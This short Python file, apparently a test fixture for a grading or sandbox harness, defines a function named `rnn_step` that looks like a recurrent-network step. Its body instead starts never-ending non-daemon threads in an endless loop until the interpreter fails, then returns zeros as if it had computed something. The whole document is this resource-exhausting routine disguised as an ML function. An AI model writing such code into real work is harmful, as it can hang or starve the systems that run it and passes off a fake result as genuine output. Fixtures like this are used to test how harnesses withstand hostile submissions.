# ruff: noqa
"""Starts threads that never end."""

import threading


def rnn_step(x, h, W_xh, W_hh, b):
    try:
        while True:
            threading.Thread(target=threading.Event().wait, daemon=False).start()
    except RuntimeError:
        return 0 * h
